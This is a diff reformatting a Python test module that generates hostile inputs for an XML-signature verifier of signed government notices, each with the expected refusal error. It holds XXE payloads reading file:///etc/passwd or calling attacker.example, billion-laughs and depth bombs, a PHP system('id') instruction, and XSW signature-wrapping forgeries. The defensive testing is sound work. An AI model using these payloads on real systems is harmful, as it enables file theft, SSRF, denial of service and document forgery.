@@ -159,8 +159,14 @@ def issue(
     """Issue like ``gwx pki issue``; ``stem`` renames the files so that several certificates of one holder and
     usage can live side by side (the authority always writes ``issued/<code>/<usage>.crt``)."""
     files = authority.issue(
-        code=code, name=name, role=role, usage=usage, protection=UNSAFE, now=ROOT_START,
-        algorithm=algorithm, lifetime=lifetime,
+        code=code,
+        name=name,
+        role=role,
+        usage=usage,
+        protection=UNSAFE,
+        now=ROOT_START,
+        algorithm=algorithm,
+        lifetime=lifetime,
     )
     cert_path, key_path = files.certificate, files.key
     if stem is not None:
@@ -182,14 +188,25 @@ def subject(code: str, name: str, role: Role) -> x509.Name:
 
 def signing_key_usage(*, ca: bool = False) -> x509.KeyUsage:
     return x509.KeyUsage(
-        digital_signature=True, content_commitment=True, key_encipherment=False, data_encipherment=False,
-        key_agreement=False, key_cert_sign=ca, crl_sign=ca, encipher_only=False, decipher_only=False,
+        digital_signature=True,
+        content_commitment=True,
+        key_encipherment=False,
+        data_encipherment=False,
+        key_agreement=False,
+        key_cert_sign=ca,
+        crl_sign=ca,
+        encipher_only=False,
+        decipher_only=False,
     )
 
 
 def hand_made_certificate(
-    key: ec.EllipticCurvePrivateKey, issuer_key: ec.EllipticCurvePrivateKey, issuer: x509.Name, name: x509.Name,
-    *, ca: bool,
+    key: ec.EllipticCurvePrivateKey,
+    issuer_key: ec.EllipticCurvePrivateKey,
+    issuer: x509.Name,
+    name: x509.Name,
+    *,
+    ca: bool,
 ) -> x509.Certificate:
     """A certificate built directly with ``cryptography``, bypassing the authority's rules."""
     return (
@@ -243,8 +260,9 @@ def build_pki() -> Pki:
     authority = Authority.create(PKI, code=ROOT_CODE, name=ROOT_NAME, protection=UNSAFE, now=ROOT_START)
     expired = issue(authority, OFFICE, OFFICE_NAME, Usage.SIGNING, lifetime=EXPIRED_LIFETIME, stem="signing-expired")
     revoked = issue(authority, OFFICE, OFFICE_NAME, Usage.SIGNING, stem="signing-revoked")
-    office_rsa = issue(authority, OFFICE, OFFICE_NAME, Usage.SIGNING, algorithm=KeyAlgorithm.RSA_2048,
-                       stem="signing-rsa")
+    office_rsa = issue(
+        authority, OFFICE, OFFICE_NAME, Usage.SIGNING, algorithm=KeyAlgorithm.RSA_2048, stem="signing-rsa"
+    )
     office = issue(authority, OFFICE, OFFICE_NAME, Usage.SIGNING)
     encryption = issue(authority, OFFICE, OFFICE_NAME, Usage.ENCRYPTION)
     czt = issue(authority, CZT, CZT_NAME, Usage.SIGNING)
@@ -257,12 +275,14 @@ def build_pki() -> Pki:
     assert isinstance(root_key, ec.EllipticCurvePrivateKey)
 
     # The attacker's own root, with a certificate naming gd.gov.office.
-    evil = Authority.create(ATTACKER / "root", code="evil.example", name="攻击者自建的根证书", protection=UNSAFE,
-                            now=ROOT_START)
+    evil = Authority.create(
+        ATTACKER / "root", code="evil.example", name="攻击者自建的根证书", protection=UNSAFE, now=ROOT_START
+    )
     attacker_office = issue(evil, OFFICE, OFFICE_NAME, Usage.SIGNING)
     # An impostor root that copies the trusted root's name (same issuer DN, different key).
-    impostor = Authority.create(ATTACKER / "impostor-root", code=ROOT_CODE, name=ROOT_NAME, protection=UNSAFE,
-                                now=ROOT_START)
+    impostor = Authority.create(
+        ATTACKER / "impostor-root", code=ROOT_CODE, name=ROOT_NAME, protection=UNSAFE, now=ROOT_START
+    )
     impostor_office = issue(impostor, OFFICE, OFFICE_NAME, Usage.SIGNING)
     # A self-signed certificate naming gd.gov.office.
     office_dn = subject(OFFICE, OFFICE_NAME, Role.DEPARTMENT)
@@ -285,8 +305,15 @@ def build_pki() -> Pki:
     sub_office = Holder(
         sub_office_key,
         issue_certificate(
-            sub_key, sub_ca.cert, sub_office_key.public_key(), code=OFFICE, name=OFFICE_NAME,
-            role=Role.DEPARTMENT, usage=Usage.SIGNING, not_before=ROOT_START, lifetime=LONG,
+            sub_key,
+            sub_ca.cert,
+            sub_office_key.public_key(),
+            code=OFFICE,
+            name=OFFICE_NAME,
+            role=Role.DEPARTMENT,
+            usage=Usage.SIGNING,
+            not_before=ROOT_START,
+            lifetime=LONG,
             serial=x509.random_serial_number(),
         ),
     )
@@ -562,72 +589,143 @@ def parser_attacks(c: Context) -> None:
     head, body_bytes = signed[:declaration_end], signed[declaration_end:]
     title_bytes = title.encode("utf-8")
 
-    add("doctype", head + b"<!DOCTYPE gw:Document>\n" + body_bytes, "XmlInputError", DOCTYPE_REFUSED,
-        "The valid signed notice with a bare DOCTYPE in front of the document element.")
-    add("internal-entity",
-        head + b'<!DOCTYPE gw:Document [<!ENTITY title "' + EVIL_TITLE.encode() + b'">]>\n'
+    add(
+        "doctype",
+        head + b"<!DOCTYPE gw:Document>\n" + body_bytes,
+        "XmlInputError",
+        DOCTYPE_REFUSED,
+        "The valid signed notice with a bare DOCTYPE in front of the document element.",
+    )
+    add(
+        "internal-entity",
+        head
+        + b'<!DOCTYPE gw:Document [<!ENTITY title "'
+        + EVIL_TITLE.encode()
+        + b'">]>\n'
         + body_bytes.replace(title_bytes, b"&title;"),
-        "XmlInputError", DOCTYPE_REFUSED,
-        "An internal entity declared in the DTD replaces the Title (entity substitution changes what is read).")
-    add("external-entity-file",
-        head + b'<!DOCTYPE gw:Document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
+        "XmlInputError",
+        DOCTYPE_REFUSED,
+        "An internal entity declared in the DTD replaces the Title (entity substitution changes what is read).",
+    )
+    add(
+        "external-entity-file",
+        head
+        + b'<!DOCTYPE gw:Document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
         + body_bytes.replace(title_bytes, b"&xxe;"),
-        "XmlInputError", DOCTYPE_REFUSED, "XXE: an external entity SYSTEM file:///etc/passwd read into the Title.")
-    add("external-entity-http",
-        head + b'<!DOCTYPE gw:Document [<!ENTITY xxe SYSTEM "http://attacker.example/leak?d=gongwen">]>\n'
+        "XmlInputError",
+        DOCTYPE_REFUSED,
+        "XXE: an external entity SYSTEM file:///etc/passwd read into the Title.",
+    )
+    add(
+        "external-entity-http",
+        head
+        + b'<!DOCTYPE gw:Document [<!ENTITY xxe SYSTEM "http://attacker.example/leak?d=gongwen">]>\n'
         + body_bytes.replace(title_bytes, b"&xxe;"),
-        "XmlInputError", DOCTYPE_REFUSED, "XXE / SSRF: an external entity fetched over HTTP.")
-    add("external-parameter-entity",
-        head + b'<!DOCTYPE gw:Document [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>\n'
+        "XmlInputError",
+        DOCTYPE_REFUSED,
+        "XXE / SSRF: an external entity fetched over HTTP.",
+    )
+    add(
+        "external-parameter-entity",
+        head
+        + b'<!DOCTYPE gw:Document [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>\n'
         + body_bytes,
-        "XmlInputError", DOCTYPE_REFUSED, "Out-of-band XXE: a parameter entity that loads a remote DTD.")
-    add("external-dtd",
+        "XmlInputError",
+        DOCTYPE_REFUSED,
+        "Out-of-band XXE: a parameter entity that loads a remote DTD.",
+    )
+    add(
+        "external-dtd",
         head + b'<!DOCTYPE gw:Document SYSTEM "http://attacker.example/gongwen.dtd">\n' + body_bytes,
-        "XmlInputError", DOCTYPE_REFUSED, "A DOCTYPE naming an external DTD subset on an attacker's server.")
+        "XmlInputError",
+        DOCTYPE_REFUSED,
+        "A DOCTYPE naming an external DTD subset on an attacker's server.",
+    )
     laughs = b"".join(
         b'<!ENTITY lol%d "%s">' % (i, b"".join(b"&lol%d;" % (i - 1) for _ in range(10))) for i in range(1, 10)
     )
-    add("billion-laughs",
-        head + b'<!DOCTYPE gw:Document [<!ENTITY lol0 "lol">' + laughs + b"]>\n"
+    add(
+        "billion-laughs",
+        head
+        + b'<!DOCTYPE gw:Document [<!ENTITY lol0 "lol">'
+        + laughs
+        + b"]>\n"
         + body_bytes.replace(title_bytes, b"&lol9;"),
-        "XmlInputError", DOCTYPE_REFUSED,
-        "Billion laughs: nested entities expanding to 10^9 copies of 'lol' in the Title.")
-    utf16 = (head + b'<!DOCTYPE gw:Document [<!ENTITY title "' + EVIL_TITLE.encode() + b'">]>\n'
-             + body_bytes.replace(title_bytes, b"&title;")).decode("utf-8")
-    add("utf16-hidden-doctype",
+        "XmlInputError",
+        DOCTYPE_REFUSED,
+        "Billion laughs: nested entities expanding to 10^9 copies of 'lol' in the Title.",
+    )
+    utf16 = (
+        head
+        + b'<!DOCTYPE gw:Document [<!ENTITY title "'
+        + EVIL_TITLE.encode()
+        + b'">]>\n'
+        + body_bytes.replace(title_bytes, b"&title;")
+    ).decode("utf-8")
+    add(
+        "utf16-hidden-doctype",
         utf16.replace("encoding='UTF-8'", "encoding='UTF-16'").encode("utf-16"),
-        "XmlInputError", "malformed XML",
+        "XmlInputError",
+        "malformed XML",
         "The internal-entity attack encoded as UTF-16, so that a byte scan for '<!DOCTYPE' finds nothing; the "
-        "parser reads UTF-8 only and refuses it.")
-    add("comment-in-title",
+        "parser reads UTF-8 only and refuses it.",
+    )
+    add(
+        "comment-in-title",
         body_bytes.replace(title_bytes, title_bytes.replace("办公厅".encode(), "办公厅<!---->".encode(), 1)),
-        "XmlInputError", COMMENTS_REFUSED,
+        "XmlInputError",
+        COMMENTS_REFUSED,
         "Comment truncation (SAML 2018): a comment splits the Title text; C14N without comments still gives the "
-        "signed digest, but a reader of the first text node sees only the part before the comment.")
-    add("comment-before-root",
+        "signed digest, but a reader of the first text node sees only the part before the comment.",
+    )
+    add(
+        "comment-before-root",
         head + b"<!-- \xe5\xb7\xb2\xe5\xae\xa1\xe6\xa0\xb8 -->\n" + body_bytes,
-        "XmlInputError", COMMENTS_REFUSED,
-        "A comment before the document element (outside what C14N of the root covers).")
-    add("processing-instruction",
+        "XmlInputError",
+        COMMENTS_REFUSED,
+        "A comment before the document element (outside what C14N of the root covers).",
+    )
+    add(
+        "processing-instruction",
         head + b'<?xml-stylesheet type="text/xsl" href="http://attacker.example/render.xsl"?>\n' + body_bytes,
-        "XmlInputError", COMMENTS_REFUSED,
-        "A processing instruction (xml-stylesheet pointing at an attacker's server) before the document element.")
-    add("processing-instruction-in-body",
+        "XmlInputError",
+        COMMENTS_REFUSED,
+        "A processing instruction (xml-stylesheet pointing at an attacker's server) before the document element.",
+    )
+    add(
+        "processing-instruction-in-body",
         body_bytes.replace(b"<gw:Body>", b"<gw:Body><?php system('id'); ?>", 1),
-        "XmlInputError", COMMENTS_REFUSED, "A processing instruction inside the Body.")
+        "XmlInputError",
+        COMMENTS_REFUSED,
+        "A processing instruction inside the Body.",
+    )
     nest = 40
-    add("depth-bomb",
-        body_bytes.replace(b"<gw:Body>", b"<gw:Body>" + b"<x:d xmlns:x='urn:attacker:evil'>" + b"<x:d>" * (nest - 1)
-                           + b"</x:d>" * nest, 1),
-        "XmlInputError", "XML is nested deeper than 32 levels",
-        f"{nest} nested elements inside the Body (limit 32): refused by the parser before any digest is computed.")
+    add(
+        "depth-bomb",
+        body_bytes.replace(
+            b"<gw:Body>",
+            b"<gw:Body>" + b"<x:d xmlns:x='urn:attacker:evil'>" + b"<x:d>" * (nest - 1) + b"</x:d>" * nest,
+            1,
+        ),
+        "XmlInputError",
+        "XML is nested deeper than 32 levels",
+        f"{nest} nested elements inside the Body (limit 32): refused by the parser before any digest is computed.",
+    )
     nest = 5000
-    add("depth-bomb-deep",
+    add(
+        "depth-bomb-deep",
         body_bytes.replace(b"<gw:Body>", b"<gw:Body>" + b"<d>" * nest + b"</d>" * nest, 1),
-        "XmlInputError", "Excessive depth",
-        f"{nest} nested elements: libxml2's own depth limit stops it while parsing.")
-    add("truncated", signed[: signed.rindex(b">", 0, len(signed) // 2) + 1], "XmlInputError", "malformed XML",
-        "The signed notice cut in half (after a tag).")
+        "XmlInputError",
+        "Excessive depth",
+        f"{nest} nested elements: libxml2's own depth limit stops it while parsing.",
+    )
+    add(
+        "truncated",
+        signed[: signed.rindex(b">", 0, len(signed) // 2) + 1],
+        "XmlInputError",
+        "malformed XML",
+        "The signed notice cut in half (after a tag).",
+    )
 
 
 def content_attacks(c: Context) -> None:
@@ -637,21 +735,39 @@ def content_attacks(c: Context) -> None:
     add("unsigned", draft, "SignatureError", NOT_SIGNED, "The unsigned draft of the notice.")
     wrapper = etree.Element("{urn:attacker:evil}Envelope", nsmap={"evil": EVIL_NS})
     wrapper.append(signed_copy())
-    add("wrapper-root", wrapper, "DocumentError", "根元素应为 gw:Document",
-        "The valid signed notice wrapped in a foreign root element.")
-    add("title-one-byte",
+    add(
+        "wrapper-root",
+        wrapper,
+        "DocumentError",
+        "根元素应为 gw:Document",
+        "The valid signed notice wrapped in a foreign root element.",
+    )
+    add(
+        "title-one-byte",
         signed.replace(title_bytes, title_bytes[:-1] + bytes([title_bytes[-1] ^ 0x01]), 1),
-        "SignatureError", DIGEST_CHANGED,
-        "One byte of the Title changed (the last byte of a UTF-8 character, so the text stays valid).")
+        "SignatureError",
+        DIGEST_CHANGED,
+        "One byte of the Title changed (the last byte of a UTF-8 character, so the text stays valid).",
+    )
     root = signed_copy()
     first(root, GW + "Signing").set("time", "2026-11-19T08:00:00Z")
-    add("signing-time-changed", root, "SignatureError", DIGEST_CHANGED,
-        "The signing time in the Signing element moved a day back after signing (it is covered by the signature).")
+    add(
+        "signing-time-changed",
+        root,
+        "SignatureError",
+        DIGEST_CHANGED,
+        "The signing time in the Signing element moved a day back after signing (it is covered by the signature).",
+    )
     root = signed_copy()
     first(root, GW + "Title").addprevious(copy.deepcopy(first(root, GW + "Title")))
     first(root, GW + "Title").text = EVIL_TITLE
-    add("duplicate-title", root, "SignatureError", DIGEST_CHANGED,
-        "A second, forged Title inserted before the signed one (a reader taking the first sees the forgery).")
+    add(
+        "duplicate-title",
+        root,
+        "SignatureError",
+        DIGEST_CHANGED,
+        "A second, forged Title inserted before the signed one (a reader taking the first sees the forgery).",
+    )
     root = signed_copy()
     evil_body = copy.deepcopy(first(root, GW + "Body"))
     first(evil_body, GW + "P").text = EVIL_PARAGRAPH
@@ -659,15 +775,27 @@ def content_attacks(c: Context) -> None:
     add("duplicate-body", root, "SignatureError", DIGEST_CHANGED, "A forged Body inserted before the signed one.")
     root = signed_copy()
     signature_blocks(root)[-1].tail = EVIL_PARAGRAPH
-    add("text-after-signature", root, "SignatureError", DIGEST_CHANGED,
-        "Text appended after </ds:Signature>: the enveloped transform keeps it in the digested document.")
+    add(
+        "text-after-signature",
+        root,
+        "SignatureError",
+        DIGEST_CHANGED,
+        "Text appended after </ds:Signature>: the enveloped transform keeps it in the digested document.",
+    )
     root = signed_copy()
     first(root, GW + "Body").find(GW + "P").text = None
     first(root, GW + "Body").find(GW + "P").append(
-        etree.fromstring(b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" '
-                         b'parse="text"/>'))
-    add("xinclude", root, "SignatureError", DIGEST_CHANGED,
-        "An XInclude of file:///etc/passwd in the first paragraph: never processed, it is only a changed document.")
+        etree.fromstring(
+            b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
+        )
+    )
+    add(
+        "xinclude",
+        root,
+        "SignatureError",
+        DIGEST_CHANGED,
+        "An XInclude of file:///etc/passwd in the first paragraph: never processed, it is only a changed document.",
+    )
 
 
 def wrapping_attacks(c: Context) -> None:
@@ -680,57 +808,100 @@ def wrapping_attacks(c: Context) -> None:
     signing, signature = blocks_copy(original)
     signature.append(without_blocks(original))
     root.extend([signing, signature])
-    add("xsw1-original-inside-signature", root, "SignatureError",
+    add(
+        "xsw1-original-inside-signature",
+        root,
+        "SignatureError",
         SIGNATURE_CHILDREN + " SignedInfo, SignatureValue, KeyInfo, Document",
         "XSW1: forged document at the root carrying the original Signing and Signature; the signed original "
-        "sits inside ds:Signature after KeyInfo.")
+        "sits inside ds:Signature after KeyInfo.",
+    )
     root = evil_content(original)
     root.append(without_blocks(original))
     root.extend(blocks_copy(original))
-    add("xsw2-original-before-signature", root, "SignatureError", DIGEST_CHANGED,
-        "XSW2: forged document at the root; the signed original is a sibling just before the copied signature.")
+    add(
+        "xsw2-original-before-signature",
+        root,
+        "SignatureError",
+        DIGEST_CHANGED,
+        "XSW2: forged document at the root; the signed original is a sibling just before the copied signature.",
+    )
     root = signed_copy()
     root.insert(0, evil_content(original))
-    add("xsw3-forged-document-first", root, "SignatureError", DIGEST_CHANGED,
+    add(
+        "xsw3-forged-document-first",
+        root,
+        "SignatureError",
+        DIGEST_CHANGED,
         "XSW3: a forged gw:Document inserted as the first child of the signed original (readers of the first "
-        "gw:Document / gw:Title see the forgery).")
+        "gw:Document / gw:Title see the forgery).",
+    )
     root = evil_content(original)
     root.append(signed_copy())
     root.extend(blocks_copy(original))
-    add("xsw4-forged-wraps-original", root, "SignatureError", SIG_OUTSIDE,
+    add(
+        "xsw4-forged-wraps-original",
+        root,
+        "SignatureError",
+        SIG_OUTSIDE,
         "XSW4: the forged document wraps the whole signed original (with its signature) and repeats the "
-        "original's signature block at its end.")
+        "original's signature block at its end.",
+    )
     root = evil_content(original)
     root.extend(blocks_copy(original))
     root.append(without_blocks(original))
-    add("xsw5-original-after-signature", root, "SignatureError", NOT_SIGNED,
-        "XSW5: forged document with the copied signature; the signed original appended after the signature.")
+    add(
+        "xsw5-original-after-signature",
+        root,
+        "SignatureError",
+        NOT_SIGNED,
+        "XSW5: forged document with the copied signature; the signed original appended after the signature.",
+    )
     root = evil_content(original)
     signing, signature = blocks_copy(original)
     etree.SubElement(signature, DS + "Object").append(signed_copy())
     root.extend([signing, signature])
-    add("xsw6-signed-original-in-object", root, "SignatureError", SIG_OUTSIDE,
+    add(
+        "xsw6-signed-original-in-object",
+        root,
+        "SignatureError",
+        SIG_OUTSIDE,
         "XSW6: forged document with a copied signature whose ds:Object holds the signed original with its own "
-        "signature.")
+        "signature.",
+    )
     root = evil_content(original)
     etree.SubElement(root, "{urn:attacker:ext}Extensions", nsmap={"ext": "urn:attacker:ext"}).append(
-        without_blocks(original))
+        without_blocks(original)
+    )
     root.extend(blocks_copy(original))
-    add("xsw7-original-in-extensions", root, "SignatureError", DIGEST_CHANGED,
-        "XSW7: forged document; the signed original hidden in a foreign Extensions element, signature copied.")
+    add(
+        "xsw7-original-in-extensions",
+        root,
+        "SignatureError",
+        DIGEST_CHANGED,
+        "XSW7: forged document; the signed original hidden in a foreign Extensions element, signature copied.",
+    )
     root = evil_content(original)
     signing, signature = blocks_copy(original)
     etree.SubElement(signature, DS + "Object").append(without_blocks(original))
     root.extend([signing, signature])
-    add("xsw8-original-in-object", root, "SignatureError", SIGNATURE_CHILDREN + " SignedInfo, SignatureValue, "
-        "KeyInfo, Object",
-        "XSW8: forged document with the copied signature; the signed original (without signature) in ds:Object.")
+    add(
+        "xsw8-original-in-object",
+        root,
+        "SignatureError",
+        SIGNATURE_CHILDREN + " SignedInfo, SignatureValue, KeyInfo, Object",
+        "XSW8: forged document with the copied signature; the signed original (without signature) in ds:Object.",
+    )
     root = signed_copy()
     etree.SubElement(signature_blocks(root)[-1], DS + "Object").append(evil_content(original))
-    add("unsigned-object-in-valid-signature", root, "SignatureError",
+    add(
+        "unsigned-object-in-valid-signature",
+        root,
+        "SignatureError",
         SIGNATURE_CHILDREN + " SignedInfo, SignatureValue, KeyInfo, Object",
         "The valid signed notice, untouched, with a forged document in a ds:Object appended to its Signature: "
-        "the digest and signature value still verify, only the profile refuses the unsigned Object.")
+        "the digest and signature value still verify, only the profile refuses the unsigned Object.",
+    )
 
 
 def placement_attacks(c: Context) -> None:
@@ -740,91 +911,162 @@ def placement_attacks(c: Context) -> None:
     body = first(root, GW + "Body")
     for element in signature_blocks(root):
         body.append(element)
-    add("signature-inside-body", root, "SignatureError", NOT_SIGNED,
+    add(
+        "signature-inside-body",
+        root,
+        "SignatureError",
+        NOT_SIGNED,
         "The Signing and Signature elements moved inside the Body (the enveloped transform would still remove "
-        "the signature wherever it is).")
+        "the signature wherever it is).",
+    )
     root = signed_copy()
     first(root, GW + "Body").append(copy.deepcopy(signature_blocks(root)[-1]))
-    add("signature-copy-inside-body", root, "SignatureError", SIG_OUTSIDE,
-        "A second copy of the valid signature inside the Body, the original block left in place.")
+    add(
+        "signature-copy-inside-body",
+        root,
+        "SignatureError",
+        SIG_OUTSIDE,
+        "A second copy of the valid signature inside the Body, the original block left in place.",
+    )
     root = signed_copy()
     for i, element in enumerate(signature_blocks(root)):
         root.insert(i, element)
-    add("signature-before-content", root, "SignatureError", NOT_SIGNED,
-        "The signature block moved in front of the content (first children of the document element).")
+    add(
+        "signature-before-content",
+        root,
+        "SignatureError",
+        NOT_SIGNED,
+        "The signature block moved in front of the content (first children of the document element).",
+    )
     root = signed_copy()
     anchor = first(root, GW + "SignatureName")
     for element in signature_blocks(root):
         anchor.addprevious(element)
-    add("signature-in-the-middle", root, "SignatureError", NOT_SIGNED,
-        "The signature block moved between Body and SignatureName: it is no longer last.")
+    add(
+        "signature-in-the-middle",
+        root,
+        "SignatureError",
+        NOT_SIGNED,
+        "The signature block moved between Body and SignatureName: it is no longer last.",
+    )
     root = signed_copy()
     note = etree.SubElement(root, GW + "Note")
     note.text = EVIL_PARAGRAPH
-    add("content-after-signature", root, "SignatureError", NOT_SIGNED,
-        "A forged Note appended after the signature block.")
+    add(
+        "content-after-signature",
+        root,
+        "SignatureError",
+        NOT_SIGNED,
+        "A forged Note appended after the signature block.",
+    )
     root = signed_copy()
     root.append(copy.deepcopy(signature_blocks(root)[-1]))
-    add("signature-duplicated", root, "SignatureError", NOT_SIGNED,
-        "Two identical ds:Signature elements after one Signing element.")
+    add(
+        "signature-duplicated",
+        root,
+        "SignatureError",
+        NOT_SIGNED,
+        "Two identical ds:Signature elements after one Signing element.",
+    )
     root = signed_copy()
     root.extend(blocks_copy(original))
-    add("signature-block-duplicated", root, "SignatureError", ORDER_BROKEN,
-        "The whole signature block (Signing + Signature) repeated: the second copy does not cover the first.")
+    add(
+        "signature-block-duplicated",
+        root,
+        "SignatureError",
+        ORDER_BROKEN,
+        "The whole signature block (Signing + Signature) repeated: the second copy does not cover the first.",
+    )
     root = signed_copy()
     root.insert(0, copy.deepcopy(first(root, GW + "Signing")))
-    add("signing-element-outside-blocks", root, "SignatureError",
+    add(
+        "signing-element-outside-blocks",
+        root,
+        "SignatureError",
         "a Signing element appears outside the signature blocks",
-        "An extra Signing element at the start of the document.")
+        "An extra Signing element at the start of the document.",
+    )
     root = signed_copy()
     signing = signature_blocks(root)[0]
     signing.addnext(etree.Element(GW + "Signing", department=OFFICE, time=SIGNED_AT.strftime(TIME)))
-    add("signing-element-doubled", root, "SignatureError", "a Signing element appears outside the signature blocks",
-        "Two Signing elements in front of one Signature.")
+    add(
+        "signing-element-doubled",
+        root,
+        "SignatureError",
+        "a Signing element appears outside the signature blocks",
+        "Two Signing elements in front of one Signature.",
+    )
 
 
 def namespace_attacks(c: Context) -> None:
     """Namespace tricks."""
     signed, add, signed_copy = c.signed, c.add, c.signed_copy
-    add("gw-prefix-rebound", signed.replace(b'xmlns:gw="' + GW_NS.encode() + b'"',
-                                            b'xmlns:gw="urn:attacker:gongwen"', 1),
-        "DocumentError", "根元素应为 gw:Document",
-        "The gw prefix bound to another namespace on the document element: same text, other elements.")
+    add(
+        "gw-prefix-rebound",
+        signed.replace(b'xmlns:gw="' + GW_NS.encode() + b'"', b'xmlns:gw="urn:attacker:gongwen"', 1),
+        "DocumentError",
+        "根元素应为 gw:Document",
+        "The gw prefix bound to another namespace on the document element: same text, other elements.",
+    )
     root = signed_copy()
     evil_title = etree.Element("{urn:attacker:gongwen}Title", nsmap={"gw": "urn:attacker:gongwen"})
     evil_title.text = EVIL_TITLE
     first(root, GW + "Title").addprevious(evil_title)
-    add("gw-prefix-rebound-inner", root, "SignatureError", DIGEST_CHANGED,
+    add(
+        "gw-prefix-rebound-inner",
+        root,
+        "SignatureError",
+        DIGEST_CHANGED,
         "A forged <gw:Title xmlns:gw='urn:attacker:gongwen'> before the real Title: same prefix, other namespace "
-        "(fools readers that match on the prefixed name).")
+        "(fools readers that match on the prefixed name).",
+    )
     root = signed_copy()
     evil_title = etree.Element(GW + "Title", nsmap={None: GW_NS})
     evil_title.text = EVIL_TITLE
     first(root, GW + "Title").addprevious(evil_title)
-    add("default-namespace-title", root, "SignatureError", DIGEST_CHANGED,
-        "A forged <Title xmlns='urn:gwexchange:document:1'> (default namespace, no prefix) before the real Title.")
+    add(
+        "default-namespace-title",
+        root,
+        "SignatureError",
+        DIGEST_CHANGED,
+        "A forged <Title xmlns='urn:gwexchange:document:1'> (default namespace, no prefix) before the real Title.",
+    )
     unprefixed = signed.replace(b"<gw:", b"<").replace(b"</gw:", b"</").replace(b"xmlns:gw=", b"xmlns=")
-    add("default-namespace-document", unprefixed, "SignatureError", DIGEST_CHANGED,
+    add(
+        "default-namespace-document",
+        unprefixed,
+        "SignatureError",
+        DIGEST_CHANGED,
         "The document rewritten with a default namespace instead of the gw prefix: same names, but exclusive C14N "
-        "keeps prefixes, so it is not what was signed.")
-    add("ds-prefix-rebound", signed.replace(b'xmlns:ds="' + DS_NS.encode() + b'"', b'xmlns:ds="urn:attacker:dsig"',
-                                            1),
-        "SignatureError", NOT_SIGNED,
-        "The ds prefix of the Signature bound to another namespace: it is no ds:Signature at all.")
-    add("ds-prefix-rebound-reference",
+        "keeps prefixes, so it is not what was signed.",
+    )
+    add(
+        "ds-prefix-rebound",
+        signed.replace(b'xmlns:ds="' + DS_NS.encode() + b'"', b'xmlns:ds="urn:attacker:dsig"', 1),
+        "SignatureError",
+        NOT_SIGNED,
+        "The ds prefix of the Signature bound to another namespace: it is no ds:Signature at all.",
+    )
+    add(
+        "ds-prefix-rebound-reference",
         signed.replace(b'<ds:Reference URI="">', b'<ds:Reference xmlns:ds="urn:attacker:dsig" URI="">', 1),
-        "SignatureError", "ds:SignedInfo must contain exactly CanonicalizationMethod, SignatureMethod, Reference",
-        "The ds prefix re-bound to another namespace on ds:Reference only.")
+        "SignatureError",
+        "ds:SignedInfo must contain exactly CanonicalizationMethod, SignatureMethod, Reference",
+        "The ds prefix re-bound to another namespace on ds:Reference only.",
+    )
     root = signed_copy()
     signature = signature_blocks(root)[-1]
-    rebuilt = etree.fromstring(
-        etree.tostring(signature).replace(b"ds:", b"").replace(b"xmlns:ds=", b"xmlns=")
-    )
+    rebuilt = etree.fromstring(etree.tostring(signature).replace(b"ds:", b"").replace(b"xmlns:ds=", b"xmlns="))
     signature.addnext(rebuilt)
     root.remove(signature)
-    add("signature-default-namespace", root, "SignatureError", "signature value does not verify",
+    add(
+        "signature-default-namespace",
+        root,
+        "SignatureError",
+        "signature value does not verify",
         "The Signature rewritten with the XML-DSig namespace as default namespace (no ds: prefix): the digest "
-        "still matches, but the canonical SignedInfo is not what was signed.")
+        "still matches, but the canonical SignedInfo is not what was signed.",
+    )
 
 
 def reference_attacks(c: Context) -> None:
@@ -834,45 +1076,98 @@ def reference_attacks(c: Context) -> None:
     def digest_element(element_path: str) -> Callable[[etree._Element, etree._Element], bytes]:
         def over(root: etree._Element, signature: etree._Element) -> bytes:
             return c14n(first(root, element_path))
+
         return over
 
     root = fresh()
     root.set("Id", "gwdoc")
     sign_shape(root, office, Shape(uri="#gwdoc"))
-    add("reference-id-root", root, "SignatureError", URI_REFUSED,
-        "Reference URI='#gwdoc' to an Id on the document element, correctly signed with the office's key.")
+    add(
+        "reference-id-root",
+        root,
+        "SignatureError",
+        URI_REFUSED,
+        "Reference URI='#gwdoc' to an Id on the document element, correctly signed with the office's key.",
+    )
     root = fresh()
     first(root, GW + "Body").set("Id", "body")
     first(root, GW + "Title").text = EVIL_TITLE
-    sign_shape(root, office, Shape(uri="#body", transforms=((EXC_C14N, None),),
-                                   digest_input=digest_element(GW + "Body")))
-    add("reference-id-body", root, "SignatureError", URI_REFUSED,
-        "Reference URI='#body' to an Id on the Body only: the Title is not covered and has been forged.")
+    sign_shape(
+        root, office, Shape(uri="#body", transforms=((EXC_C14N, None),), digest_input=digest_element(GW + "Body"))
+    )
+    add(
+        "reference-id-body",
+        root,
+        "SignatureError",
+        URI_REFUSED,
+        "Reference URI='#body' to an Id on the Body only: the Title is not covered and has been forged.",
+    )
     root = fresh()
     first(root, GW + "Body").set("Id", "body")
     first(root, GW + "Title").text = EVIL_TITLE
-    sign_shape(root, office, Shape(uri="#xpointer(id('body'))", transforms=((EXC_C14N, None),),
-                                   digest_input=digest_element(GW + "Body")))
-    add("reference-xpointer-id", root, "SignatureError", URI_REFUSED,
-        "Reference URI=\"#xpointer(id('body'))\": a fragment reference to the Body only.")
-    add("reference-xpointer-root", custom(Shape(uri="#xpointer(/)")), "SignatureError", URI_REFUSED,
-        "Reference URI='#xpointer(/)' (the whole document, with comments) instead of URI=''.")
-    add("reference-external-http",
-        custom(Shape(uri="http://attacker.example/gongwen.xml", transforms=((EXC_C14N, None),),
-                     digest_input=lambda root, sig: b"remote content")),
-        "SignatureError", URI_REFUSED, "Reference to an external http:// URI (SSRF, detached content).")
-    add("reference-external-file",
-        custom(Shape(uri="file:///etc/passwd", transforms=((EXC_C14N, None),),
-                     digest_input=lambda root, sig: b"root:x:0:0:root:/root:/bin/bash\n")),
-        "SignatureError", URI_REFUSED, "Reference to file:///etc/passwd.")
-    add("reference-without-uri", custom(Shape(uri=None)), "SignatureError", URI_REFUSED,
-        "A Reference with no URI attribute (the application is supposed to know what it means).")
+    sign_shape(
+        root,
+        office,
+        Shape(uri="#xpointer(id('body'))", transforms=((EXC_C14N, None),), digest_input=digest_element(GW + "Body")),
+    )
+    add(
+        "reference-xpointer-id",
+        root,
+        "SignatureError",
+        URI_REFUSED,
+        "Reference URI=\"#xpointer(id('body'))\": a fragment reference to the Body only.",
+    )
+    add(
